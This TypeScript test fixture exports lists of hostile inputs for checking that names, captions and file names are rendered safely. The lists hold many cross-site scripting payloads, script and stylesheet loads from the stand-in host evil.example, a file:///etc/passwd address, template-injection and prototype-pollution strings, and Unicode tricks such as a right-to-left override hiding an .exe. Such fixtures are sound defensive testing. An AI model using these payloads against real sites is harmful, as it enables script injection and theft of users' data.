/** What people and machines try in names, captions, file names and notes. `boom` must never be called. */
const BOOM = 'globalThis.boom?.()';

const MARKUP: readonly string[] = [
  `<script>${BOOM}</script>`,
  `"><script>${BOOM}</script>`,
  `'><script>${BOOM}</script>`,
  `</textarea><script>${BOOM}</script>`,
  `</title><script>${BOOM}</script>`,
  `</style><script>${BOOM}</script>`,
  `--><script>${BOOM}</script>`,
  `]]><script>${BOOM}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${BOOM}</scr</script>ipt>`,
  `<img src=x onerror=${BOOM}>`,
  `<img src="x" onerror="${BOOM}">`,
  `"><img src=x onerror=${BOOM}>`,
  `<img/src=x/onerror=${BOOM}>`,
  `<svg onload=${BOOM}>`,
  `<svg><animate onbegin=${BOOM} attributeName=x dur=1s>`,
  `<svg><script>${BOOM}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${BOOM}>`,
  `<body onload=${BOOM}>`,
  `<input autofocus onfocus=${BOOM}>`,
  `<details open ontoggle=${BOOM}>`,
  `<video><source onerror=${BOOM}></video>`,
  `<audio src=x onerror=${BOOM}>`,
  `<iframe srcdoc="<script>parent.boom()</script>"></iframe>`,
  `<iframe src="javascript:parent.boom()"></iframe>`,
  `<object data="javascript:${BOOM}"></object>`,
  `<embed src="javascript:${BOOM}">`,
  `<a href="javascript:${BOOM}">click</a>`,
  `<form action="javascript:${BOOM}"><button>x</button></form>`,
  `<button formaction="javascript:${BOOM}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${BOOM}">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(javascript:${BOOM})">x</div>`,
  `<marquee onstart=${BOOM}>x</marquee>`,
  `<template><img src=x onerror=${BOOM}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${BOOM}>">`,
];

const ADDRESSES: readonly string[] = [
  `javascript:${BOOM}`,
  `JaVaScRiPt:${BOOM}`,
  `java\tscript:${BOOM}`,
  `data:text/html,<script>${BOOM}</script>`,
  `vbscript:msgbox(1)`,
  'https://evil.example/?q=<script>',
  '//evil.example/x',
  'file:///etc/passwd',
];

const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("boom()")()}}',
  `\${globalThis.boom()}`,
  '#{boom()}',
  '<%= boom() %>',
  '{count, plural, one {#} other {#}}',
  '__proto__',
  'constructor',
  '%3Cscript%3Eboom()%3C/script%3E',
  '&lt;script&gt;boom()&lt;/script&gt;',
  '\\u003cscript\\u003eboom()\\u003c/script\\u003e',
];

const UNSEEN: readonly string[] = [
  'pago \u202Egnp.exe',
  'a\u2066b\u2069c',
  'cero\u200Bancho',
  'fin\u0000nulo\u0007timbre\u001B[31mrojo',
  '\uFEFFmarca',
  'suave\u00ADguion',
  'línea\u2028nueva',
  `zalgo ${'\u0301'.repeat(60)}e`,
];

/** At least sixty, all different. */
export const HOSTILE: readonly string[] = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...UNSEEN];

/** Names that objects have anyway stand alone; the others go three at a time. */
export const HOSTILE_ROUNDS: readonly string[] = [
  '__proto__',
  'constructor',
  ...HOSTILE.flatMap((_, index) => (index % 3 === 0 ? [HOSTILE.slice(index, index + 3).join(' ')] : [])),
];
